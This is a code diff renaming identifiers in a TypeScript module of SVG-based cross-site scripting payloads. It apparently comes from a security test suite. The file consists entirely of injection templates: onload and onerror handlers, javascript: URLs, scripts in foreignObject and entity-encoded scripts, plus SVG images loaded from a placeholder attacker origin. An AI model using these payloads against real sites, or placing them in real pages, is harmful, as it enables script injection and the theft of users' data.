@@ -1,11 +1,11 @@
 // Drawings and formulae: inside them other rules of reading hold.
-import { EVIL, inEntities, type Family } from './payload-family';
+import { ATTACKER_ORIGIN, toEntities, type PayloadFamily } from './payload-family';
 
-export const FOREIGN: Family = {
+export const FOREIGN_CONTENT_PAYLOADS: PayloadFamily = {
   'a drawing that loads': (run) => `<svg onload=${run}>`,
   'a drawing without spaces': (run) => `<svg/onload="${run}">`,
   'a script in a drawing': (run) => `<svg><script>${run}</script></svg>`,
-  'a script of entities in a drawing': (run) => `<svg><script>${inEntities(run, 10)}</script></svg>`,
+  'a script of entities in a drawing': (run) => `<svg><script>${toEntities(run, 10)}</script></svg>`,
   'a script that a drawing loads': (run) => `<svg><script href="data:,${run}"/></svg>`,
   'an animation that begins': (run) => `<svg><animate onbegin=${run} attributeName=x dur=1s></svg>`,
   'an animation that sets an address': (run) =>
@@ -17,7 +17,8 @@ export const FOREIGN: Family = {
     `<svg><use href="data:image/svg+xml,<svg id='a' xmlns='http://www.w3.org/2000/svg'><a href='javascript:${run}'/></svg>#a"/></svg>`,
   'a page in a drawing': (run) => `<svg><foreignObject><iframe srcdoc="<script>parent.${run}</script>"></iframe></svg>`,
   'a picture in a drawing': (run) => `<svg><image href=x onerror=${run} /></svg>`,
-  'a picture that a drawing loads': () => `<svg><image href="${EVIL}/a.svg" /><feImage href="${EVIL}/b.svg" /></svg>`,
+  'a picture that a drawing loads': () =>
+    `<svg><image href="${ATTACKER_ORIGIN}/a.svg" /><feImage href="${ATTACKER_ORIGIN}/b.svg" /></svg>`,
   'a title of a drawing': (run) => `<svg><title><img src=x onerror=${run}></title></svg>`,
   'a description of a drawing': (run) => `<svg><desc><img src=x onerror=${run}></desc></svg>`,
   'a style in a drawing': (run) => `<svg><style><img src=x onerror=${run}></style></svg>`,
